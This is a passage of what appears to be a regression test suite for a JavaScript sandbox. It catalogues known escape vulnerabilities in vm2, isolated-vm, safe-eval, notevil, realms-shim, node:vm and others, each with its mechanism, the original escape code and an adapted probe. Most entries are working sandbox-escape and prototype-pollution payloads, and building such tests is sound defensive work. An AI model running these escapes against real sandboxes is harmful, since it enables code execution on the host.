const o = { [hook](d, opts, insp) { try { opts.showProxy = true; opts.customInspect = true; } catch {} try { esc(insp(callTool, opts)); esc(insp(console, opts)); } catch (e) { esc(e); } esc(opts); return 'x'; } };
console.log(o); console.log('%o', o); console.dir(o, { showProxy: true });
if (typeof Proxy === 'function') { const px = new Proxy({ [hook]: o[hook] }, {}); console.log(px); await callTool('echo', { px }); }`,
  },
  {
    id: 'vm2 GHSA-qvjj-29qf-hp7p (Promise species)',
    mechanism: "a species constructor on a promise the host made runs the sandbox's executor with the host's resolve functions",
    original: `class X extends Promise { static get [Symbol.species]() { return function (ex) { ex((v) => v, (e) => e.constructor.constructor(${P})()); }; } }
Promise.resolve().then.call(X.resolve(Buffer.alloc(-1)), null, (e) => e);`,
    adapted: `let got = [];
const exec = function (ex) { got.push(ex); ex((v) => esc(v), (e) => esc(e)); esc(ex); };
class X extends Promise { static get [Symbol.species]() { return exec; } }
for (const p of [callTool('echo', {}), callTool('nope', {}), X.resolve(1), X.reject(new Error('r'))]) {
  try { Object.defineProperty(p, 'constructor', { value: X }); } catch {}
  try { await p.then((v) => esc(v), (e) => esc(e)); } catch (e) { esc(e); }
  try { await Promise.prototype.then.call(p, null, (e) => esc(e)); } catch (e) { esc(e); }
}
try { await X.all([callTool('echo', {}), callTool('secret', {})]); } catch (e) { esc(e); }
escAll(got);`,
  },
  {
    id: 'vm2 GHSA-grj5-jjm8-h35p (__lookupGetter__)',
    mechanism: "__lookupGetter__ on a proxied host object returned the host's own __proto__ getter, callable on host values",
    original: `const getProto = Buffer.prototype.__lookupGetter__('__proto__');
const hostObjectProto = getProto.call(getProto.call(Buffer.from('x')));
hostObjectProto.polluted = 1; hostObjectProto.constructor.constructor(${P})();`,
    adapted: `const sources = [callTool, console, console.log, input, await callTool('hostObject', {})];
for (const s of sources) {
  for (const k of ['__proto__', 'constructor', 'then', 'toString']) {
    try { const gt = s.__lookupGetter__(k); if (gt) { esc(gt); esc(gt.call(s)); esc(gt.call(callTool)); } } catch (e) { esc(e); }
    try { const st = s.__lookupSetter__(k); if (st) { st.call(Object.prototype, { polluted: 1 }); esc(st); } } catch (e) { esc(e); }
  }
  try { const gp = ({}).__lookupGetter__('__proto__'); let p = s; for (let i = 0; i < 4 && p; i++) { p = gp.call(p); esc(p); if (p) p.polluted = 1; } } catch (e) { esc(e); }
}`,
    extra: { run: (kit) => ({ tools: kit.tools, input: { a: [1] } }) },
  },
  {
    id: 'vm2 issue 562 (ATTACKS.md categories 18 and 19 missing)',
    mechanism: "with no safe default for prepareStackTrace, `e.name = Symbol(); e.stack` makes V8 raise its TypeError from the host's callback; array species self-return then carries it",
    original: `const e = new Error(); e.name = Symbol();
try { e.stack; } catch (x) { x.constructor.constructor(${P})(); }
function X() { return target; } const target = []; X[Symbol.species] = X; const a = []; a.constructor = X; a.map((v) => v);`,
    adapted: `const errs = [];
for (const setup of [() => {}, () => { try { Error.prepareStackTrace = undefined; } catch {} }, () => { try { delete Error.prepareStackTrace; } catch {} }]) {
  setup(); const e = new Error(); try { e.name = Symbol(); } catch {} try { e.stack; } catch (x) { errs.push(x); }
  const o = {}; try { o.name = Symbol(); Error.captureStackTrace(o); o.stack; } catch (x) { errs.push(x); }
}
function X() { return errs; } X[Symbol.species] = X; const a = [1, 2]; try { a.constructor = X; } catch {} try { a.map((v) => v); a.filter(Boolean); a.slice(); a.concat([]); } catch (x) { errs.push(x); }
escAll(errs); return errs.length;`,
  },

  // ---- upstream Enclave ---------------------------------------------------------------------------
  {
    id: 'Enclave GHSA-3279-86j6-jpr3',
    mechanism: "static destructuring keys (and a descriptor hook) read `constructor` past a membrane that only guarded member expressions",
    original: `const { constructor: { constructor: Fn } } = callTool; Fn(${P})();`,
    adapted: `try { const { constructor: { constructor: Fn } } = console.log; Fn(${P})(); } catch (e) { esc(e); }
try { const [{ constructor: { constructor: Fn } }] = [input]; Fn(${P})(); } catch (e) { esc(e); }
try { const r = await callTool('hostObject', {}); const { widget: { constructor: { constructor: Fn } } } = r; Fn(${P})(); } catch (e) { esc(e); }
try { const d = Object.getOwnPropertyDescriptor(FP, 'constructor'); d.value(${P})(); } catch (e) { esc(e); }
try { const ds = Object.getOwnPropertyDescriptors(callTool); for (const k of Reflect.ownKeys(ds)) { esc(ds[k].value); esc(ds[k].get); } } catch (e) { esc(e); }
try { ((({ constructor: { constructor: Fn } }) => Fn(${P})()))(callTool('echo', {})); } catch (e) { esc(e); }`,
    extra: { run: (kit) => ({ tools: kit.tools, input: { a: 1 } }) },
  },
  {
    id: 'Enclave GHSA-grmc-r8vw-226r',
    mechanism: "the membrane proxy had no apply trap, so calling a wrapped host function ran it with raw sandbox arguments and returned a raw host result",
    original: `const r = console.log.apply(null, [{ toString() { return 'x'; } }]); console.log.constructor(${P})();
const host = callTool('echo', {}); host.constructor.constructor(${P})();`,
    adapted: `const args = [{ toString() { esc(this); return 'x'; }, toJSON() { esc(this); return 1; } }, (x) => esc(x), Object.create(null)];
for (const f of [callTool, console.log, console.info]) {
  for (const a of args) { try { const r = f(a, a); esc(r); if (r && typeof r.then === 'function') esc(await r.catch((e) => e)); } catch (e) { esc(e); } }
  try { esc(new f('echo')); } catch (e) { esc(e); } try { esc(f.call(input, 'echo', {})); } catch (e) { esc(e); }
}`,
  },
  {
    id: 'Enclave GHSA-6mpw-63xj-mghh',
    mechanism: "a Proxy returned or passed to a tool was walked by the host's sanitizer, whose traps then ran with host arguments",
    original: `const trap = { get(t, k, recv) { recv.constructor.constructor(${P})(); return t[k]; }, ownKeys(t) { return Reflect.ownKeys(t); } };
await callTool('echo', new Proxy({ a: 1 }, trap)); return new Proxy({ a: 1 }, trap);`,
    adapted: `const hits = [];
const traps = {}; for (const t of ['get', 'set', 'has', 'ownKeys', 'getOwnPropertyDescriptor', 'getPrototypeOf', 'defineProperty', 'apply', 'construct']) traps[t] = (...a) => { hits.push(t); escAll(a); return Reflect[t](...a); };
const make = (o) => (typeof Proxy === 'function' ? new Proxy(o, traps) : Object.defineProperties(o, { x: { enumerable: true, get() { escAll([this, arguments]); return 1; } } }));
const withGetters = { get a() { escAll([this, arguments]); return make({ b: 1 }); }, list: [make({ c: 1 })] };
try { await callTool('echo', make({ a: 1 })); } catch (e) { esc(e); } try { await callTool('echo', withGetters); } catch (e) { esc(e); }
console.log(make({ l: 1 }), withGetters);
if (input && input.throwIt) throw make(new Error('e'));
return [make({ r: 1 }), withGetters];`,
    extra: { run: (kit) => ({ tools: kit.tools, input: { throwIt: false } }) },
  },
  {
    id: 'Enclave bind-depth escape',
    mechanism: "a host function bound thousands of times deep made the membrane's recursive unwrapping overflow the stack and throw a host RangeError",
    original: `let f = console.log; for (let i = 0; i < 100000; i++) f = f.bind(null);
try { f('x'); } catch (e) { e.constructor.constructor(${P})(); }`,
    adapted: `for (const base of [callTool, console.log]) {
  let f = base; try { for (let i = 0; i < 10000; i++) f = f.bind(null); } catch (e) { esc(e); }
  try { const r = f('echo', { depth: 10000 }); esc(r); if (r && r.then) esc(await r.catch((e) => e)); } catch (e) { esc(e); }
  try { await callTool('echo', { f }); } catch (e) { esc(e); }
  try { esc(FP.call.call(f, null, 'echo', {})); } catch (e) { esc(e); }
}`,
  },

  // ---- isolated-vm --------------------------------------------------------------------------------
  {
    id: 'isolated-vm CVE-2021-21413 (< 4.0.0)',
    mechanism: "a Reference handed to the isolate exposed the host object's whole prototype chain, up to host constructors",
    original: `const ref = $0; let p = ref.deref(); while (p) { try { p.constructor.constructor(${P})(); } catch {} p = Object.getPrototypeOf(p); }
ref.getSync('constructor').getSync('constructor').applySync(undefined, [${P}]);`,
    adapted: `const r = await callTool('hostObject', {});
for (const root of [callTool, console, console.log, input, r, r.widget, r.map, r.set, r.when, r.err, r.typed, r.regex, r.getterBox, r.proxy, r.shared]) {
  let p = root; for (let i = 0; i < 8 && p !== null && p !== undefined; i++) { esc(p); for (const k of ['deref', 'derefInto', 'getSync', 'applySync', 'copy', 'copySync']) { try { esc(p[k]); } catch {} } try { p = Object.getPrototypeOf(p); } catch { break; } }
}`,
    extra: { run: (kit) => ({ tools: kit.tools, input: { a: [1, { b: 2 }] } }) },
  },
  {
    id: 'isolated-vm async escape (applySyncPromise / host promise)',
    mechanism: "a host async function awaited from the isolate resolves with, or calls back into, host values and the host's resolve functions",
    original: `const hostFn = $0; const r = hostFn.applySyncPromise(undefined, []); r.constructor.constructor(${P})();
hostFn.apply(undefined, [], { result: { promise: true } }).then((v) => v.constructor.constructor(${P})());`,
    adapted: `const hooks = { then(res, rej) { esc(res); esc(rej); try { res.constructor.constructor(${P})(); } catch {} res(1); } };
const results = await Promise.all([callTool('thenable', {}), callTool('slow', { ms: 1 }), callTool('echo', hooks), callTool('echo', { then: hooks.then })]);
escAll(results);
const p = callTool('echo', {}); esc(p.then); try { p.then(hooks.then, hooks.then); } catch (e) { esc(e); }
return hooks;`,
  },
  {
    id: 'isolated-vm iterator escape',
    mechanism: "iterating a value copied or referenced from the host yields host iterator objects and host IteratorPrototype methods",
    original: `const m = $0.copySync(); const it = m[Symbol.iterator](); Object.getPrototypeOf(Object.getPrototypeOf(it)).constructor.constructor(${P})();`,
    adapted: `const r = await callTool('hostObject', {});
for (const v of [r.map, r.set, r.typed, input.list, 'str', [1]]) {
  if (v === undefined || v === null) continue;
  for (const make of [() => v[Symbol.iterator](), () => v.entries(), () => v.values(), () => v.keys()]) {
    try { const it = make(); esc(it); esc(it.next); esc(Object.getPrototypeOf(it)); esc(Object.getPrototypeOf(Object.getPrototypeOf(it))); const s = it.next(); esc(s); esc(s.value); } catch (e) { esc(e); }
  }
}
for await (const x of (async function* () { yield r; yield callTool('echo', {}); })()) esc(x);`,
    extra: { run: (kit) => ({ tools: kit.tools, input: { list: [1, 2] } }) },
  },

  // ---- safe-eval, static-eval, notevil, sandboxed-module --------------------------------------------
  {
    id: 'safe-eval CVE-2017-16088',
    mechanism: "`this` in the evaluated code is the context object, a host object whose constructor chain is the host Function",
    original: `this.constructor.constructor(${P})();`,
    adapted: `const self = (function () { return this; })(); esc(self);
try { esc(this); } catch {} try { esc(globalThis); } catch {}
const arrowThis = (() => this)(); esc(arrowThis);
const o = { m() { return this; } }; esc(o.m.call(undefined)); esc(Reflect.apply(o.m, undefined, []));`,
  },
  {
    id: 'safe-eval CVE-2023-26122',
    mechanism: "prepareStackTrace collects getThis() of every frame and finds a host receiver among them",
    original: `Error.prepareStackTrace = (e, frames) => frames.map((f) => f.getThis()).find((x) => x);
const { stack } = new Error(); stack.constructor.constructor(${P})();`,
    adapted: `const found = [];
const pst = (e, frames) => { try { for (const f of frames) { found.push(f.getThis(), f.getFunction()); } } catch {} return frames.map((f) => { try { return f.getThis(); } catch { return undefined; } }).find((x) => x); };
try { Error.prepareStackTrace = pst; } catch {} try { Object.defineProperty(Error, 'prepareStackTrace', { value: pst }); } catch {}
try { const { stack } = new Error(); esc(stack); } catch (e) { esc(e); }
await callTool('echo', { toJSON() { const { stack } = new Error(); esc(stack); return 1; } });
console.log({ toString() { const { stack } = new Error(); esc(stack); return 's'; } });
escAll(found);`,
  },
  {
    id: 'safe-eval CVE-2022-25904',
    mechanism: 'the evaluated code writes through __proto__ and constructor.prototype into prototypes the host shares',
    original: `({}).__proto__.polluted = 'yes'; ({}).constructor.prototype.polluted = 'yes'; [].__proto__.polluted = 'yes';`,
    adapted: `for (const v of [{}, [], '', 1, () => 1, callTool, console, input, await callTool('echo', { a: 1 })]) {
  for (const w of [() => { v.__proto__.polluted = 'yes'; }, () => { v.constructor.prototype.polluted = 'yes'; }, () => { Object.getPrototypeOf(v).polluted = 'yes'; }, () => { v.__proto__.__proto__.polluted = 'yes'; }, () => { Object.assign(Object.getPrototypeOf(v), { polluted: 1 }); }]) { try { w(); } catch {} }
}
try { JSON.parse('{"__proto__": {"polluted": 1}}'); Object.assign({}, JSON.parse('{"__proto__": {"polluted": 1}}')); } catch {}
await callTool('echo', JSON.parse('{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}'));`,
    extra: { run: (kit) => ({ tools: kit.tools, input: { a: 1 } }) },
  },
  {
    id: 'static-eval CVE-2017-16226 (< 2.0.0)',
    mechanism: "an evaluator that walks member expressions lets `''.sub.constructor` reach Function and call it",
    original: `''.sub.constructor(${P})();`,
    adapted: `for (const f of [() => ''.sub, () => [].map, () => (1).toFixed, () => /x/.test, () => ({}).valueOf, () => callTool.bind, () => console.log.call]) {
  try { f().constructor(${P})(); } catch (e) { esc(e); }
  try { f()['const' + 'ructor'](${P})(); } catch (e) { esc(e); }
}`,
  },
  {
    id: 'notevil CVE-2021-23771',
    mechanism: "notevil guarded obj.__proto__ but not a function's __proto__.__proto__ or constructor.prototype, polluting Object.prototype",
    original: `function fn() {} fn.__proto__.__proto__.polluted = 'yes'; fn.constructor.prototype.polluted = 'yes';`,
    adapted: `const fns = [function fn() {}, () => 1, async () => 1, function* () {}, class {}, callTool, console.log, Math.max];
for (const f of fns) { for (const w of [() => { f.__proto__.__proto__.polluted = 'yes'; }, () => { f.constructor.prototype.polluted = 'yes'; }, () => { f.__proto__.polluted = 'yes'; }, () => { f.prototype.__proto__.polluted = 'yes'; }, () => { f.__proto__.__proto__.then = () => 1; }]) { try { w(); } catch {} } }`,
  },
  {
    id: 'sandboxed-module (host globals shared with the module)',
    mechanism: "the module's globals were the host's own process, require.cache and global, so one write reaches the host",
    original: `process.env.EK_ATTACK_PWNED = '1'; global.__pwned = 1; require.cache[Object.keys(require.cache)[0]].exports.polluted = 1;`,
    adapted: `for (const name of ['process', 'global', 'globalThis', 'require', 'module', 'exports', '__dirname', 'Buffer', 'setImmediate']) {
  try { const v = eval(name); esc(v); } catch {}
}
for (const w of [() => { process.env.EK_ATTACK_PWNED = '1'; }, () => { global.__pwned = 1; }, () => { globalThis.__pwned = 1; }, () => { __pwned = 1; }]) { try { w(); } catch {} }`,
  },

  {
    id: 'mathjs CVE-2017-1001002 / CVE-2017-1001003',
    mechanism: "an expression parser that exposes math functions lets `cos.constructor('...')()` reach Function through one of them",
    original: `cos.constructor(${P})(); Math.cos.constructor(${P})();`,
    adapted: `for (const f of [Math.cos, Math.max, Number.parseFloat, Date.now, JSON.stringify, Object.keys, Array.isArray, String.fromCharCode]) { try { f.constructor(${P})(); } catch (e) { esc(e); } esc(f); }`,
  },
  {
    id: 'AngularJS 1.x expression sandbox (constructor.constructor)',
    mechanism: "expressions resolve bare names on a scope object, so `constructor.constructor('...')()` finds Function through the scope's own chain",
    original: `constructor.constructor(${P})();`,
    adapted: `for (const f of [() => constructor, () => toString.constructor, () => valueOf.call.constructor, () => hasOwnProperty.constructor, () => __proto__]) { try { const v = f(); esc(v); v.constructor(${P})(); } catch (e) { esc(e); } }`,
  },
  {
    id: 'Enclave (upstream) String(callTool) leaks the runtime',
    mechanism: "a function the runtime hands the script prints its own source, naming the runtime's internals and how to reach them",
    original: `return [String(callTool), callTool.toString(), String(console.log)];`,
    adapted: `const roots = [callTool, console, input, callTool('echo', {}), [][Symbol.iterator](), new Map().entries(), 'x'[Symbol.iterator](), /x/g[Symbol.matchAll]('x'), (async function* () {})(), (function* () {})()];
roots.push(typeof Object === 'undefined' ? undefined : Object, typeof Array === 'undefined' ? undefined : Array, typeof String === 'undefined' ? undefined : String, typeof Number === 'undefined' ? undefined : Number, typeof Boolean === 'undefined' ? undefined : Boolean, typeof Symbol === 'undefined' ? undefined : Symbol, typeof BigInt === 'undefined' ? undefined : BigInt, typeof Math === 'undefined' ? undefined : Math, typeof JSON === 'undefined' ? undefined : JSON, typeof Date === 'undefined' ? undefined : Date, typeof RegExp === 'undefined' ? undefined : RegExp, typeof Map === 'undefined' ? undefined : Map, typeof Set === 'undefined' ? undefined : Set, typeof WeakMap === 'undefined' ? undefined : WeakMap, typeof WeakSet === 'undefined' ? undefined : WeakSet, typeof Promise === 'undefined' ? undefined : Promise, typeof Error === 'undefined' ? undefined : Error, typeof TypeError === 'undefined' ? undefined : TypeError, typeof RangeError === 'undefined' ? undefined : RangeError, typeof AggregateError === 'undefined' ? undefined : AggregateError, typeof Reflect === 'undefined' ? undefined : Reflect, typeof Proxy === 'undefined' ? undefined : Proxy, typeof Intl === 'undefined' ? undefined : Intl, typeof structuredClone === 'undefined' ? undefined : structuredClone, typeof parseInt === 'undefined' ? undefined : parseInt, typeof encodeURIComponent === 'undefined' ? undefined : encodeURIComponent, typeof isNaN === 'undefined' ? undefined : isNaN);
const seen = new Set(); const queue = [...roots]; const texts = [];
while (queue.length > 0 && seen.size < 20000) {
  const o = queue.shift();
  if (o === null || (typeof o !== 'object' && typeof o !== 'function') || seen.has(o)) continue;
  seen.add(o);
  if (typeof o === 'function') { try { const t = FP.toString.call(o); texts.push(t.length > 400 ? t.slice(0, 200) + ' ... ' + t.slice(-200) : t); } catch {} }
  let keys = []; try { keys = Reflect.ownKeys(o); } catch {}
  for (const k of keys) { try { const d = Object.getOwnPropertyDescriptor(o, k); if ('value' in d) queue.push(d.value); else queue.push(d.get, d.set); } catch {} }
  try { queue.push(Object.getPrototypeOf(o)); } catch {}
}
function mine() { return 42; }
return { texts, mine: String(mine), count: texts.length };`,
    extra: {
      check: (r) => {
        const text = collectStrings(r.value).join('\n');
        expect(text, 'a runtime function printed its source').not.toMatch(/hostCall|hostLog|checkAlive|bridge|runInContext|charged\(|encodeJSON/);
        // Not a run that ended early (a result too large to copy out was how the runtime's source once hid).
        expect(r.error, JSON.stringify(r.error)).toBeUndefined();
        const value = r.value as { texts?: unknown; mine?: unknown } | undefined;
        if (Array.isArray(value?.texts)) {
          const shown = value.texts.filter((t): t is string => typeof t === 'string');
          expect(shown.length, 'the walk reached the builtins').toBeGreaterThan(100);
          expect(shown.filter((t) => !t.endsWith('{ [native code] }')), 'runtime functions that print their source').toEqual([]);
          expect(String(value.mine), "a script's own function prints its source").toContain('return 42');
        }
      },
    },
  },

  {
    id: 'expr-eval CVE-2025-12735',
    mechanism: 'a host function put in the evaluation context is called by the expression with arguments it chose: callbacks, getters and objects the host then uses',
    original: `lookup(function () { return this.constructor.constructor(${P})(); }); lookup({ toString() { return 'x'; } }).constructor.constructor(${P})();`,
    adapted: `await lookup('plain');
const cb = function () { escAll([this, arguments]); return 1; };
const odd = [cb, { get x() { escAll([this]); return 1; }, toJSON: cb, toString: cb, valueOf: cb, then: cb }, Object.create(null), [cb, { f: cb }]];
if (typeof Proxy === 'function') odd.push(new Proxy({}, { get: cb, ownKeys: () => ['a'], getOwnPropertyDescriptor: () => ({ value: cb, enumerable: true, configurable: true }) }));
for (const a of odd) { try { const r = lookup(a, a); esc(r); esc(await r); } catch (e) { esc(e); } }
try { esc(lookup.call(callTool, 1)); esc(new lookup(1)); } catch (e) { esc(e); }
try { esc(await lookup.apply(null, [1, 2])); } catch (e) { esc(e); }`,
    extra: {
      enclave: { allowFunctionsInGlobals: true },
      run: (kit) => {
        hostArgs.length = 0;
        return {
          tools: kit.tools,
          globals: {
            lookup: (...args: unknown[]) => {
              hostArgs.push(...args);
              return { got: args.length };
            },
          },
        };
      },
      check: (r) => {
        // The host function saw data only: no function, no getter, no object of the realm's.
        const plain = (v: unknown): boolean =>
          v === null || ['string', 'number', 'boolean', 'undefined'].includes(typeof v) || (typeof v === 'object' && [Object.prototype, Array.prototype].includes(Object.getPrototypeOf(v)) && Object.values(Object.getOwnPropertyDescriptors(v)).every((d) => 'value' in d && plain(d.value)));
        if (r.success) expect(hostArgs.length, 'the script reached the host function').toBeGreaterThan(0);
        for (const a of hostArgs) expect(plain(a), `the host function got ${String(a)}`).toBe(true);
      },
    },
  },

  // ---- realms-shim / SES --------------------------------------------------------------------------
  {
    id: 'realms-shim 1.2.0 (Oct 2019)',
    mechanism: "errors thrown by the shim's own machinery (its scope proxy and evaluator) were made in the parent realm",
    original: `try { undefinedGlobalName; } catch (e) { e.constructor.constructor('return this')().__pwned = 1; }
try { Object.defineProperty(this, 'x', {}); } catch (e) { e.constructor.constructor(${P})(); }`,
    adapted: `const errs = [];
for (const f of [() => undefinedGlobalName, () => { undefinedGlobalName = 1; }, () => { callTool = 1; }, () => { console = 1; }, () => { input = 1; }, () => { Object.defineProperty(console, 'log', { value: 1 }); }, () => { delete callTool.name; }, () => { Object.setPrototypeOf(callTool, null); }]) { try { f(); } catch (e) { errs.push(e); } }
errs.push(...(await engineErrors())); escAll(errs);`,
  },
  {
    id: 'realms-shim 1.2.1 (Symbol.unscopables)',
    mechanism: "a name listed in Symbol.unscopables on the evaluator's with-scope falls through to the real global object",
    unparsable: true,
    original: `Object.prototype[Symbol.unscopables] = { eval: true, Function: true };
with ({}) { Function(${P})(); }`,
    adapted: `try { Object.prototype[Symbol.unscopables] = { Function: true, eval: true, globalThis: true, process: true }; } catch {}
try { Array.prototype[Symbol.unscopables].constructor = true; } catch {}
with ({ [Symbol.unscopables]: { Function: true } }) { try { Function(${P})(); } catch (e) { esc(e); } }`,
  },

  // ---- node:vm classics ---------------------------------------------------------------------------
  {
    id: 'node:vm this.constructor.constructor',
    mechanism: "in a plain vm context `this` is the contextified host sandbox object, so its constructor chain is the host Function",
    original: `const process = this.constructor.constructor('return process')(); process.env.EK_ATTACK_PWNED = '1';
this.constructor.constructor(${P})();`,
    adapted: `const probes = [function () { return this; }, function () { 'use strict'; return this; }, () => this];
for (const p of probes) { try { esc(p()); esc(p.call(callTool)); } catch (e) { esc(e); } }
try { esc(this.constructor); } catch (e) { esc(e); }`,
  },
  {
    id: 'node:vm arguments.callee.caller',
    mechanism: 'a sloppy function the host calls (a toString, toJSON or getter) reads its caller, a host function',
    original: `const o = { toString: function () { const host = arguments.callee.caller; host.constructor(${P})(); return 'x'; } };
'' + o; JSON.stringify({ toJSON: function () { arguments.callee.caller.constructor(${P})(); } });`,
    adapted: `function spy() { try { esc(arguments.callee); esc(arguments.callee.caller); esc(spy.caller); esc(spy.arguments); } catch (e) { esc(e); } return 'x'; }
const o = { toString: spy, valueOf: spy, toJSON: spy, get g() { return spy(); } };
console.log(o, String(o)); await callTool('echo', o); [3, 1].sort(spy); JSON.parse('[1]', spy); 'a'.replace(/a/g, spy); new Promise(spy);
await callTool('echo', {}).then(spy); return o;`,
  },
  {
    id: 'node:vm Error.prepareStackTrace structured frames',
    mechanism: "prepareStackTrace's CallSites give getThis() and getFunction() of the host frames below the sandbox's",
    original: `Error.prepareStackTrace = (e, frames) => frames;
const frames = new Error().stack; for (const f of frames) { try { f.getThis().constructor.constructor(${P})(); } catch {} try { f.getFunction().constructor(${P})(); } catch {} }`,
    adapted: `const got = [];
const pst = (e, frames) => { got.push(frames); return frames; };
try { Error.prepareStackTrace = pst; } catch {} try { Object.defineProperty(Error, 'prepareStackTrace', { value: pst }); } catch {}
const fire = () => { try { const s = new Error().stack; if (Array.isArray(s)) got.push(s); } catch (e) { esc(e); } return 'x'; };
fire(); await callTool('echo', { toJSON: fire }); console.log({ toString: fire }); [1].map(fire); await callTool('echo', {}).then(fire);
for (const frames of got) { for (const f of frames) { try { esc(f.getThis()); esc(f.getFunction()); esc(f.getEvalOrigin && f.getEvalOrigin()); } catch {} } }`,
  },
  {
    id: "node:vm Symbol.for('nodejs.util.inspect.custom')",
    mechanism: "a value logged by host code has its custom inspect hook run on the host with Node's inspect and options",
    original: `console.log({ [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { inspect.constructor(${P})(); return ''; } });`,
    adapted: `const hook = Symbol.for('nodejs.util.inspect.custom');
const hooked = function (depth, options, insp) { escAll([options, insp, this]); try { esc(options.stylize); } catch {} return 'h'; };
const values = [{ [hook]: hooked }, [{ [hook]: hooked }], { nested: { deeper: { [hook]: hooked } } }];
for (const v of values) { console.log(v); console.error(v); console.log('%o', v); await callTool('echo', v); }
if (input && input.throwIt) throw Object.assign(new Error('e'), { [hook]: hooked });
return values;`,
    extra: { run: (kit) => ({ tools: kit.tools, input: { throwIt: false } }) },
  },
  {
    id: 'node:vm __proto__ and __defineGetter__ tricks',
    mechanism: "legacy accessors plant getters on Object.prototype that host code then trips over when it copies values out",
    original: `({}).__defineGetter__.call(Object.prototype, 'then', function () { this.constructor.constructor(${P})(); });
Object.prototype.__defineSetter__('x', function (v) { v.constructor.constructor(${P})(); });`,
    adapted: `const trip = function (...a) { escAll([this, ...a]); return undefined; };
for (const k of ['then', 'toJSON', 'constructor', 'value', 'message', 'stack', 'code', 'name', 'data', 'errors', 'cause', 'length']) {
  try { ({}).__defineGetter__.call(Object.prototype, k, trip); } catch {} try { ({}).__defineSetter__.call(Object.prototype, k, trip); } catch {}
  try { Object.prototype.__defineGetter__(k, trip); } catch {}
}
try { ({}).__proto__.__proto__ = {}; } catch {} try { Object.prototype.__proto__ = { polluted: 1 }; } catch {}
const r = await callTool('echo', { a: [1, { b: 2 }] }); console.log(r); return r;`,
  },
  {
    id: 'node:vm Proxy traps on thrown values',
    mechanism: "a thrown Proxy's traps run when host code inspects the error (instanceof, .message, .stack), receiving host arguments",
    original: `throw new Proxy({}, { get(t, k, recv) { recv.constructor.constructor(${P})(); }, getPrototypeOf(t) { t.constructor.constructor(${P})(); return null; } });`,
    adapted: `const t = {}; for (const k of ['get', 'has', 'getPrototypeOf', 'ownKeys', 'getOwnPropertyDescriptor', 'apply', 'construct']) t[k] = (...a) => { escAll(a); return k === 'ownKeys' ? [] : k === 'getPrototypeOf' ? Error.prototype : k === 'has' ? false : undefined; };
const thrown = typeof Proxy === 'function' ? new Proxy(function () {}, t) : { get message() { escAll([this, arguments]); return 'm'; }, get name() { escAll([this]); return 'Error'; }, get stack() { escAll([this]); return 's'; } };
try { await callTool('echo', { thrown }); } catch (e) { esc(e); }
throw thrown;`,
  },
  {
    id: 'node:vm Promise species and thenable then getters',
    mechanism: "the host awaits a value the script returned or passed, whose then getter or method runs with the host's resolve functions",
    original: `const evil = { get then() { return (resolve, reject) => { resolve.constructor.constructor(${P})(); resolve(1); }; } };
return evil;`,
    adapted: `const thenFn = function (res, rej) { escAll([res, rej, this, arguments]); try { res(1); } catch {} };
const getterThen = { get then() { escAll([this]); return thenFn; } };
try { await callTool('echo', getterThen); } catch (e) { esc(e); } try { await callTool('echo', { then: thenFn }); } catch (e) { esc(e); }
console.log(getterThen);
class P2 extends Promise { constructor(ex) { super((res, rej) => { escAll([res, rej]); ex(res, rej); }); } }
try { await P2.resolve(callTool('echo', {})); } catch (e) { esc(e); }
if (input && input.asThrow) throw getterThen;
return input && input.asObject ? { nested: getterThen } : getterThen;`,
    extra: { run: (kit) => ({ tools: kit.tools, input: { asThrow: false, asObject: false } }) },
  },
  {
    id: 'node:vm async generator return/throw',
    mechanism: "an async generator's return()/throw() resumes it inside a finally after the caller has moved on, as late work or with host values",
    original: `async function* g() { try { yield 1; } finally { await null; process.env.EK_ATTACK_PWNED = '1'; } }
const it = g(); await it.next(); it.return();`,
    adapted: `async function* gen() { try { yield 1; yield 2; } finally { try { await callTool('slow', { ms: 30 }); } catch {} callTool('echo', { late: 'finally' }); for (let i = 0; i < 3; i++) { try { await null; } catch {} } } }
const it = gen(); await it.next(); it.return({ then(r) { esc(r); r(1); } });
const it2 = gen(); await it2.next(); it2.throw(new Error('t')).catch((e) => esc(e));
const it3 = gen(); it3.next(); it3.return(callTool('echo', {}));
return 'early';`,
  },
  {
    id: 'node:vm WeakRef and FinalizationRegistry callbacks after a run',
    mechanism: 'a cleanup callback registered by one run fires later, after the run ended, and reaches tools or the next tenant',
    original: `const fr = new FinalizationRegistry(() => { process.env.EK_ATTACK_PWNED = '1'; });
for (let i = 0; i < 1e4; i++) fr.register({}, i);`,
    adapted: `const reg = [];
for (const get of [() => FinalizationRegistry, () => WeakRef]) {
  try { const C = get(); if (C === FinalizationRegistry) { const fr = new C(() => callTool('echo', { late: 'cleanup' })); for (let i = 0; i < 2000; i++) fr.register({ i }, i); reg.push(fr); } else { reg.push(new C({})); } } catch (e) { esc(e); }
}
const junk = []; for (let i = 0; i < 2000; i++) junk.push({ i, s: 'x'.repeat(32) });
return reg.length;`,
  },
  {
    id: 'node:vm Atomics and SharedArrayBuffer',
    mechanism: "Atomics.wait on a SharedArrayBuffer blocks the thread beyond any deadline, and a shared buffer outlives the run",
    original: `const sab = new SharedArrayBuffer(8); Atomics.wait(new Int32Array(sab), 0, 0);`,
    adapted: `for (const get of [() => SharedArrayBuffer, () => Atomics, () => Object.getPrototypeOf(async () => {}).constructor('return Atomics')()]) {
  try { const v = get(); esc(v); if (typeof v === 'function') { const sab = new v(16); Atomics.wait(new Int32Array(sab), 0, 0, 10000); } else { v.wait(new Int32Array(new ArrayBuffer(16)), 0, 0, 10000); } } catch (e) { esc(e); }
}
try { structuredClone(new ArrayBuffer(8), { transfer: [] }); } catch (e) { esc(e); }`,
    extra: { enclave: { timeout: 2000 } },
  },
  {
    id: 'node:vm stack overflow in the bridge',
    mechanism: "a call into the host bridge at the edge of the stack overflows inside host code, and its RangeError is a host object",
    original: `function r() { try { return r(); } catch (e) { try { return callTool('echo', {}); } catch (x) { return x; } } }
const e = r(); e.constructor.constructor(${P})();`,
    adapted: `const sinks = [() => callTool('echo', { a: [1, [2, [3]]] }), () => callTool(Symbol()), () => console.log({ a: 1 }), () => console.log('%o', [1]), () => JSON.stringify([[1]]), () => structuredClone([1])];
for (const s of sinks) { for (const v of atEdge(s)) { esc(v); if (v && typeof v.then === 'function') { try { await v; } catch (e) { esc(e); } } } }
let deep = 0; for (let i = 0; i < 5000; i++) deep = [deep];
try { await callTool('echo', { deep }); } catch (e) { esc(e); } try { console.log(deep); } catch (e) { esc(e); }
return deep;`,
  },
  {
    id: 'node:vm with statement',
    mechanism: "in sloppy code a with-object's getters intercept every free name lookup, including the sandbox's own bindings",
    unparsable: true,
